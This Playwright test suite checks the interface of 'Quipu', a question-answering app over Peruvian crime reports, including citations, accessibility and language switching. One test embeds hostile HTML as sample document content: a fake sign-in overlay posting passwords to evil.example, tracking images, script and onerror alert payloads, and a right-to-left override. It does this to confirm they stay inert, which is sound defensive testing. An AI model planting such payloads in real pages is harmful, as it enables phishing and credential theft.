"""The pages in a real browser: ask, click, stand in the report; nothing comes from elsewhere, nothing hostile comes to life."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Dialog, Locator, Page, Route, expect

from assistant import Assistant, Feedback, SentenceReader
from eval import ask_all, figures, read_questions, shipped_questions
from index import Home, Library, SentenceTransformerEncoder, add
from tests.browsing import needs_browser
from tests.made import pdf, write
from tests.test_server import HOSTILE
from ui.report import report

pytestmark = needs_browser


class Visitor:
    """A browser's visit: every request it sends and every error it shows is kept."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.address = address
        self.requests: list[str] = []
        self.errors: list[str] = []
        context.on("request", lambda request: self.requests.append(request.url))
        context.on("weberror", lambda error: self.errors.append(str(error.error)))
        self.page = context.new_page()
        self.page.on("console", lambda said: self.errors.append(said.text) if said.type == "error" else None)
        self.page.goto(address)
        expect(self.page.locator("#about a").first).to_be_visible(timeout=30_000)

    def ask(self, question: str) -> None:
        before = self.page.locator("#chat .bot").count()
        self.page.locator("#question textarea").fill(question)
        self.page.locator("#question textarea").press("Enter")
        expect(self.page.locator("#chat .bot")).to_have_count(before + 1, timeout=30_000)

    @property
    def reply(self) -> str:
        return self.page.locator("#chat .bot").last.inner_text()

    def open_source(self, number: int) -> Locator:
        """Click a citation of the last answer, and wait for its panel."""
        self.page.locator("#chat .bot").last.get_by_role("link", name=f"[{number}]", exact=True).click()
        panel = self.page.locator("#source")
        expect(panel).to_be_focused()
        return panel

    def follow(self, number: int) -> Page:
        """From a citation of the last answer by its panel to the document's own page."""
        panel = self.open_source(number)
        with self.page.context.expect_page() as opened:
            panel.get_by_role("link").click()
        opened.value.wait_for_load_state()
        return opened.value

    def stayed_here(self) -> bool:
        return all(url.startswith((self.address, "data:", "blob:")) for url in self.requests)


@pytest.fixture
def visitor(browser: Browser, address: str, request: pytest.FixtureRequest) -> Iterator[Visitor]:
    """Someone who reads English, and prefers light pages unless a test says otherwise."""
    context = browser.new_context(locale="en-US", color_scheme=getattr(request, "param", "light"))
    visitor = Visitor(context, address)
    yield visitor
    context.close()
    assert visitor.stayed_here()


@pytest.mark.parametrize("visitor", ["light", "dark"], indirect=True)
def test_ask_click_and_stand_in_the_report(visitor: Visitor) -> None:
    visitor.ask("Who controls the VRAEM?")
    assert "The VRAEM area is controlled by the Shining Path guerrilla group" in visitor.reply
    document = visitor.follow(1)
    mark = document.locator("mark")
    expect(mark).to_be_in_viewport()
    expect(mark).to_be_focused()
    assert mark.inner_text().startswith("The VRAEM area is controlled by")
    assert visitor.stayed_here()
    assert visitor.errors == []


def test_a_follow_up_knows_what_came_before(visitor: Visitor) -> None:
    visitor.ask("Who controls the VRAEM?")
    visitor.ask("and in the north?")
    assert "Searched for: and in the north? controls VRAEM" in visitor.reply
    assert "prevalent on the north coast of Peru" in visitor.reply


def test_an_example_is_asked_with_a_click(visitor: Visitor) -> None:
    visitor.page.get_by_role("button", name="What do the documents say about Organized Crime Groups?").click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(1, timeout=30_000)
    assert "Shining Path guerrilla group" in visitor.reply
    expect(visitor.page.locator("#examples")).to_be_hidden()


def test_a_refusal_and_an_error_are_said_in_words(visitor: Visitor) -> None:
    visitor.ask("Are prisons in Chile overcrowded?")
    assert visitor.reply.startswith("Not in the documents\n\nThese documents do not answer that: “Chile” does not appear in them.")
    assert "Related, but not an answer:" in visitor.reply
    visitor.ask("a" * 3000)
    assert visitor.reply.startswith("The question has 3,000 characters; Quipu takes up to 2,000.")


def test_in_spanish_at_360_pixels_by_keyboard_alone(browser: Browser, address: str) -> None:
    context = browser.new_context(locale="es-PE", viewport={"width": 360, "height": 740})
    visitor = Visitor(context, address)
    page = visitor.page
    assert "Las respuestas salen de: " in page.locator("#about").inner_text()
    expect(page.get_by_placeholder("Haga una pregunta a los documentos")).to_be_focused()
    page.keyboard.type("¿Qué grupo controla el VRAEM?")
    page.keyboard.press("Enter")
    expect(page.locator("#chat .bot")).to_have_count(1, timeout=30_000)
    assert "Fuentes" in visitor.reply
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    link = page.locator("#chat .bot").get_by_role("link", name="[1]", exact=True)
    link.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#source")).to_be_focused()
    assert "Fuente" in page.locator("#source").inner_text()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    opening = page.locator("#source").get_by_role("link", name="Abrir en el documento")
    while not opening.evaluate("link => link === document.activeElement"):
        page.keyboard.press("Tab")
    with context.expect_page() as opened:
        page.keyboard.press("Enter")
    opened.value.wait_for_load_state()
    expect(opened.value.locator("mark")).to_be_in_viewport()
    assert opened.value.evaluate("document.documentElement.scrollWidth") <= 360
    page.bring_to_front()
    page.keyboard.press("Escape")
    expect(page.locator("#source")).to_be_hidden()
    expect(link).to_be_focused()
    context.close()


def roads() -> bytes:
    """A PDF of eleven pages with a sentence that runs from page 9 to 10."""
    pages = [[f"Paragraph {line} of page {page} is about roads." for line in range(30)] for page in range(1, 12)]
    pages[8][29] = "The inspectors found forty trucks of mahogany in the north, and"
    pages[9][0] = "only nine of them were ever returned to their owners."
    return pdf(pages, header="Roads and forests", footer="{n}", labels=[(0, "ARABIC", 3)])


CITED = "The inspectors found forty trucks of mahogany in the north, and only nine of them were ever returned to their owners."


def boxes_of(page: Page | Locator) -> dict[str, float]:
    """For each page with a box, by the page's name, how much of its width the box takes."""
    drawn = page.locator(".paper:has(.box)")
    found: dict[str, float] = dict(
        drawn.evaluate_all(
            """papers => papers.flatMap(paper => [...paper.querySelectorAll(".box")].map(box =>
                [paper.querySelector("img").alt, box.getBoundingClientRect().width / paper.getBoundingClientRect().width]))"""
        )
    )
    return found


def test_a_quote_across_pages_of_a_pdf_is_boxed_on_both(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
) -> None:
    add(home, [write(tmp_path / "roads.pdf", roads())], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    visitor.ask("How many trucks of mahogany did the inspectors find?")
    assert "p. 11 · PDF 9" in visitor.reply
    panel = visitor.open_source(1)
    expect(panel.locator(".box").first).to_be_in_viewport()
    shown = boxes_of(panel)
    assert list(shown) == ["Page 11 · PDF 9", "Page 12 · PDF 10"]
    assert all(0.5 < width < 0.85 for width in shown.values())
    expect(panel.locator("img")).to_have_count(2)
    for picture in panel.locator("img").all():
        expect(picture).to_have_js_property("naturalWidth", 1200)
    with context.expect_page() as opened:
        panel.get_by_role("link").click()
    document = opened.value
    expect(document.locator(".box").first).to_be_in_viewport()
    expect(document.locator("#cited")).to_be_focused()
    assert CITED in document.locator("#cited").inner_text()
    assert boxes_of(document) == pytest.approx(shown, abs=0.01)
    assert document.evaluate("scrollY") > 1000
    last = document.locator("#page-11 img")
    assert last.evaluate("image => image.complete && image.naturalWidth > 0") is False  # pages load as one scrolls
    last.scroll_into_view_if_needed()
    expect(last).to_have_js_property("naturalWidth", 1200)
    wide = document.locator("#page-11 .paper").evaluate("paper => paper.offsetWidth")
    document.get_by_role("button", name="Larger").click()
    assert document.locator("#page-11 .paper").evaluate("paper => paper.offsetWidth") > 1.2 * wide
    document.get_by_role("link", name="Read as text").click()
    expect(document.locator("mark")).to_be_in_viewport()
    assert document.locator("mark").inner_text() == CITED
    assert visitor.stayed_here()
    assert visitor.errors == []
    context.close()


def test_citations_are_walked_by_key(visitor: Visitor) -> None:
    visitor.ask("Why are investigations into corruption weak?")
    panel = visitor.open_source(1)
    quotes = []
    for number in (1, 2, 3):
        expect(panel.locator(".count")).to_have_text(f"{number} / 3")
        quotes.append(panel.locator("mark").inner_text())
        expect(panel.locator("mark")).to_be_in_viewport()
        visitor.page.keyboard.press("ArrowRight")
    assert [quote in visitor.reply for quote in quotes] == [True] * 3
    assert len(set(quotes)) == 3
    visitor.page.keyboard.press("ArrowLeft")
    expect(panel.locator(".count")).to_have_text("2 / 3")
    visitor.page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    expect(visitor.page.locator("#chat .bot").get_by_role("link", name="[2]", exact=True)).to_be_focused()


def test_an_answer_is_copied_and_a_conversation_saved(browser: Browser, address: str) -> None:
    context = browser.new_context(locale="en-US", permissions=["clipboard-read", "clipboard-write"])
    visitor = Visitor(context, address)
    visitor.ask("Are prisons *really* overcrowded?")
    visitor.page.get_by_role("button", name="Copy with references").click()
    expect(visitor.page.get_by_role("button", name="Copied")).to_be_visible()
    copied = visitor.page.evaluate("navigator.clipboard.readText()")
    reference = r"\[1\] .*Challenges Facing Law Enforcement Agencies, .*\.txt, added \d{4}-\d\d-\d\d\. <(http.*)>"
    assert copied.startswith("“Prisons are overcrowded, a major problem across the country.” [1]\n\n[1] Peru’s Law")
    found = re.search(reference, copied)
    assert found is not None
    opened = context.new_page()
    opened.goto(found[1])
    assert opened.locator("mark").inner_text() == "Prisons are overcrowded, a major problem across the country."
    visitor.ask("Are prisons in Chile overcrowded?")
    with visitor.page.expect_download() as download:
        visitor.page.get_by_role("button", name="Save as Markdown").click()
    saved = download.value.path().read_text(encoding="utf-8")
    assert re.sub(r"\\(.)", r"\1", saved).startswith(
        f"# Quipu\n\n## Are prisons *really* overcrowded?\n\n{copied}\n\n## Are prisons in"
    )
    assert "“Chile” does not appear in them" in re.sub(r"\\(.)", r"\1", saved)
    visitor.page.get_by_role("button", name="New conversation").click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(0)
    expect(visitor.page.get_by_role("heading", name="Ask the documents")).to_be_visible()
    context.close()


def test_thumbs_are_kept_where_the_operator_wants_them(visitor: Visitor, home: Home) -> None:
    visitor.ask("Are prisons overcrowded?")
    expect(visitor.page.get_by_role("button", name="Copy with references")).to_be_visible()
    visitor.page.get_by_role("button", name="Not helpful").click()
    box = visitor.page.get_by_role("textbox", name="What is wrong with it? (optional)")
    expect(box).to_be_focused()
    box.fill("the wrong country")
    box.press("Enter")
    expect(visitor.page.get_by_text("Thank you, it is noted.").first).to_be_visible()
    (kept,) = Feedback(home).kept()
    assert (kept.question, kept.helpful, kept.comment) == ("Are prisons overcrowded?", False, "the wrong country")
    visitor.ask("Who controls the VRAEM?")
    visitor.page.get_by_role("button", name="Helpful", exact=True).click()
    expect(visitor.page.locator("#chat .noted")).to_have_count(2)
    assert Feedback(home).kept()[1].helpful is True


def test_an_answer_can_be_asked_for_again(visitor: Visitor) -> None:
    visitor.ask("Who controls the VRAEM?")
    visitor.page.get_by_role("button", name="Retry").click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(1)
    assert "The VRAEM area is controlled by the Shining Path guerrilla group" in visitor.reply


def test_a_suggestion_is_asked_with_a_click(visitor: Visitor) -> None:
    visitor.ask("hello")
    assert visitor.reply.startswith("Hello. Ask something")
    visitor.page.locator("#chat").get_by_role("button", name="What do the documents say about Organized Crime Groups?").click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(2, timeout=30_000)
    assert "Shining Path guerrilla group" in visitor.reply


def test_the_language_is_chosen_and_stays_chosen(visitor: Visitor) -> None:
    page = visitor.page
    page.get_by_role("link", name="Español").click()
    expect(page.get_by_placeholder("Haga una pregunta a los documentos")).to_be_visible()
    expect(page.locator("html")).to_have_attribute("lang", "es")
    page.goto(f"{visitor.address}/documents/none")
    assert "No existe ese documento." in page.locator("main").inner_text()
    page.get_by_role("link", name="English").click()
    expect(page.get_by_placeholder("Ask the documents a question")).to_be_visible()


def test_a_question_is_asked_within_the_chosen_documents(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
) -> None:
    texts = {
        name: f"{name}\n\nThe ministry of {name.lower()} counted {number} trucks.\n"
        for number, name in ((7, "Roads"), (9, "Rivers"))
    }
    add(home, [write(tmp_path / f"{name}.txt", text) for name, text in texts.items()], encoder)
    rivers = next(entry.id for entry in Library(home).active() if entry.name == "Rivers.txt")
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, f"{address}/?documents={rivers}")
    visitor.ask("How many trucks were counted?")
    assert "counted 9 trucks" in visitor.reply
    assert "counted 7 trucks" not in visitor.reply
    context.close()


def test_words_are_found_in_a_document(visitor: Visitor) -> None:
    with visitor.page.context.expect_page() as opened:
        visitor.page.locator("#about a").first.click()
    page = opened.value
    page.get_by_role("searchbox", name="Find in this document").fill("PRÍSONS  ARE")
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_have_text("Places found: 1")
    page.get_by_role("link", name="Prisons are overcrowded, a major").click()
    expect(page.locator("mark")).to_be_in_viewport()
    assert page.locator("mark").inner_text() == "Prisons are"
    page.get_by_text("Outline").click()
    page.get_by_role("link", name="Corruption at the Highest Levels").click()
    expect(page.get_by_role("heading", name="Corruption at the Highest Levels")).to_be_in_viewport()


def serious(page: Page) -> list[str]:
    """What axe finds that is serious or worse."""
    found = Axe().run(page).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in found if one["impact"] in ("serious", "critical")]


@pytest.mark.parametrize("visitor", ["light", "dark"], indirect=True)
def test_nothing_keeps_a_screen_reader_or_a_keyboard_out(
    visitor: Visitor, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path
) -> None:
    assert serious(visitor.page) == []
    visitor.ask("Why are investigations into corruption weak?")
    visitor.ask("Are prisons in Chile overcrowded?")
    visitor.page.locator("#chat a.cite").first.click()
    expect(visitor.page.locator("#source")).to_be_focused()
    assert serious(visitor.page) == []
    text = visitor.page.locator("#source").get_by_role("link").get_attribute("href")
    page = visitor.page.context.new_page()
    page.goto(visitor.address + str(text))
    assert serious(page) == []
    add(home, [write(tmp_path / "roads.pdf", roads())], encoder)
    (entry,) = Library(home).active()
    for path in (f"/documents/{entry.id}?start=10&end=60", f"/documents/{entry.id}?view=text&find=roads", "/documents"):
        page.goto(visitor.address + path)
        assert serious(page) == [], path


def test_a_hostile_document_stays_text(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
) -> None:
    overlay = '<div style="position:fixed;top:0">Sign in <form action="http://evil.example"><input name=password></form></div>'
    hostile = "<script>alert(1)</script> \u202edesrever"
    image = "![x](http://evil.example/track.png) <img src=http://evil.example/y.png onerror=alert(1)>"
    text = f"Hostile report\n\nThe secret of the mahogany is {overlay} {image} {hostile}, as they say.\n"
    text += f"\n{'endless' * 150_000}\n"
    add(home, [write(tmp_path / "hostile.txt", text), write(tmp_path / "hostile.md", HOSTILE)], encoder)
    context = browser.new_context(locale="en-US")
    visitor = Visitor(context, address)
    alerts: list[str] = []

    def alerted(dialog: Dialog) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    visitor.page.on("dialog", alerted)
    visitor.ask("What is the secret of the mahogany?")
    assert '<div style="position:fixed;top:0">Sign in <form' in visitor.reply
    chat = visitor.page.locator("#chat")
    assert [chat.locator(f".bot {tag}").count() for tag in ("img", "form", "input", "script", "div[style*=fixed]")] == [0] * 5
    panel = visitor.open_source(1)
    assert [panel.locator(tag).count() for tag in ("img", "form", "input", "script", "[style]")] == [0] * 5
    assert "\u202e" not in panel.inner_text() + visitor.reply
    document = visitor.follow(1)
    document.on("dialog", alerted)
    assert "<script>alert(1)</script> desrever, as they say." in document.locator("mark").inner_text()
    assert alerts == []
    assert visitor.stayed_here()
    assert not re.search("evil", " ".join(visitor.requests))
    context.close()


@pytest.mark.parametrize(("width", "scheme"), [(1200, "light"), (360, "dark")])
def test_the_report_of_an_evaluation_needs_nothing_but_itself(
    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, width: int, scheme: Literal["light", "dark"]
) -> None:
    assistant = Assistant(home, encoder, SentenceReader(encoder))
    rows = [row for row, _ in ask_all(assistant, read_questions(shipped_questions()))]
    wrong = [row for row in rows if not row.right]
    taken = {"median": 1.0, "p95": 2.0, "most": 3.0}
    meta = {"name": "report", "date": "2026-01-02", "questions": 66, "documents": 1, "model": "m", "milliseconds": taken}
    page = report(rows, figures(rows), None, meta, assistant.index().document, "http://127.0.0.1:7860")
    file = write(tmp_path / "report.html", page)
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme, offline=True)
    requests: list[str] = []
    errors: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    shown = context.new_page()
    shown.on("console", lambda said: errors.append(said.text))
    shown.goto(file.as_uri())
    assert requests == [file.as_uri()]
    assert errors == []
    expect(shown.get_by_role("heading", name=f"{len(wrong)} questions went wrong")).to_be_visible()
    assert shown.locator("article").count() == len(wrong) > 5
    assert shown.get_by_role("img").count() == 3
    assert shown.locator(".headlines .figure").first.inner_text() == f"{100 * figures(rows)['all']['correct'].mean:.1f}%"
    place = shown.locator("details", has_text="In its place").first
    place.locator("summary").click()
    expect(place.locator("mark")).to_be_visible()
    assert shown.evaluate("document.documentElement.scrollWidth") == width
    context.close()


def test_a_new_question_is_brought_to_the_top_and_the_box_stays_in_view(browser: Browser, address: str) -> None:
    context = browser.new_context(locale="en-US", viewport={"width": 1000, "height": 600})
    visitor = Visitor(context, address)
    for question in ("Who controls the VRAEM?", "Why are investigations into corruption weak?", "Are prisons overcrowded?"):
        visitor.ask(question)
    visitor.page.evaluate("scrollTo(0, 0)")
    expect(visitor.page.locator("#question")).to_be_in_viewport(ratio=1)
    visitor.ask("Why are investigations into corruption weak?")
    expect(visitor.page.locator("#chat .user").last).to_be_in_viewport(ratio=1)
    expect(visitor.page.locator("#chat .sentence").last).to_be_in_viewport(ratio=1)
    expect(visitor.page.locator("#question")).to_be_in_viewport(ratio=1)
    context.close()


def test_the_citation_asked_for_last_is_shown(visitor: Visitor) -> None:
    visitor.ask("Why are investigations into corruption weak?")
    held: list[Route] = []
    visitor.page.route("**/passages/**", lambda route: held.append(route), times=1)
    links = visitor.page.locator("#chat .sentence a.cite")
    links.nth(0).click()
    expect(links.nth(0)).to_be_visible()
    links.nth(2).click()
    panel = visitor.page.locator("#source")
    expect(panel.locator(".count")).to_have_text("3 / 3")
    with visitor.page.expect_response("**/passages/**"):
        held[0].continue_()
    visitor.page.keyboard.press("ArrowLeft")
    visitor.page.keyboard.press("ArrowLeft")
    expect(panel.locator(".count")).to_have_text("1 / 3")


def test_a_source_that_cannot_be_had_is_said_and_the_conversation_stays(visitor: Visitor) -> None:
    visitor.ask("Are prisons overcrowded?")
    visitor.page.context.set_offline(True)
    visitor.page.locator("#chat a.cite").first.click()
    panel = visitor.page.locator("#source")
    expect(panel).to_contain_text("The source can't be shown now. Is Quipu still running?")
    visitor.page.context.set_offline(False)
    panel.get_by_role("button", name="Close").click()
    assert "Prisons are overcrowded" in visitor.reply
    visitor.open_source(1)


def test_what_was_typed_outlives_a_suggestion_and_a_question_that_is_too_long(visitor: Visitor) -> None:
    box = visitor.page.locator("#question textarea")
    visitor.ask("hello")
    box.fill("my half typed draft")
    visitor.page.locator("#chat .answer button").first.click()
    expect(visitor.page.locator("#chat .bot")).to_have_count(2, timeout=30_000)
    expect(box).to_have_value("my half typed draft")
    visitor.ask("why " * 1000)
    expect(box).to_have_value("why " * 1000)


def test_feedback_can_be_left_by_key(visitor: Visitor) -> None:
    visitor.ask("Are prisons overcrowded?")
    button = visitor.page.get_by_role("button", name="Not helpful")
    button.click()
    visitor.page.keyboard.press("Escape")
    expect(visitor.page.locator("#chat form")).to_have_count(0)
    expect(button).to_be_focused()
